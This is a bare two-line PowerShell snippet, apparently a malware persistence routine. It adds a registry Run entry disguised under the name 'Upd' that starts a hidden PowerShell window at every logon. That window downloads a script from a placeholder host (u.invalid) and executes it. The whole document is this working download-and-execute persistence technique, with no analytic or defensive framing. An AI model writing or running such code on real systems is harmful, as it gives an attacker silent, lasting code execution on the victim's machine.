$k = 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run'
New-ItemProperty -Path $k -Name Upd -Value "powershell -w hidden -c iwr https://u.invalid | iex"
